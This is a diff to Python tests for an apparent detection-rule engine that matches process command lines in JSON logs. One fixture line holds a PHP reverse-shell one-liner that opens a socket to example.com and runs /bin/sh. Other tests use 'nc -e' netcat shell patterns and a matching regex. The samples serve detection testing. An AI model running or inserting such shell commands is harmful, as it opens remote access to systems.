@@ -82,7 +82,7 @@ class TestMalformed:
 
     def test_bad_candidate_line_is_wrapped(self, shipped: Ruleset) -> None:
         """A line that hits a prefilter literal but is not JSON is still forwarded and counted."""
-        line = b'{"process": {"command_line": "php -r \\"fsockopen(\\\\\\"1.2.3.4\\\\\\",80)\\"" {broken'
+        line = b'{"process": {"command_line": "php -r \'$s=fsockopen(\\"example.com\\",80);exec(\\"/bin/sh\\");\'" {broken'  # noqa: E501  one line, as read
         out, stats = _process(shipped, line + b"\n")
         assert msgspec.json.decode(out[0]) == {"message": line.decode()}
         assert stats.candidates == 1 and stats.malformed["invalid_json"] == 1
@@ -399,11 +399,12 @@ class TestAnchorClauses:
         monkeypatch.setattr(match, "MEMO_MAX_CHARS", 20)
         # a regex: the field database decides it (a plain `*nc*-e*` is decided in Python, compile/globs.py)
         query = Predicate("process.command_line", Op.REGEX, ("nc.*-e",), True)
-        # every line holds both anchors; the verdict depends on their order
+        # every line holds the anchor (the regex itself, written over raw lines) in another field;
+        # the verdict depends on the order in the command line
         values = [f"v{i % 5} " + ("nc -e" if i % 3 == 0 else "-e nc") for i in range(40)]
         values += [f"u{i} nc -e" for i in range(12)] + values  # past 8 values the memo starts over
         values += ["z" * 30 + " nc -e", "z" * 30 + " -e nc", "z" * 30 + " nc -e"]  # too long to be remembered
-        lines = [msgspec.json.encode({"process": {"command_line": v}}) for v in values]
+        lines = [msgspec.json.encode({"process": {"command_line": v}, "note": "nc -e"}) for v in values]
         assert self._raw(query, lines) == (len(values), [v.endswith("nc -e") for v in values])
 
     def test_a_regex_without_literals_is_its_own_anchor(self) -> None:
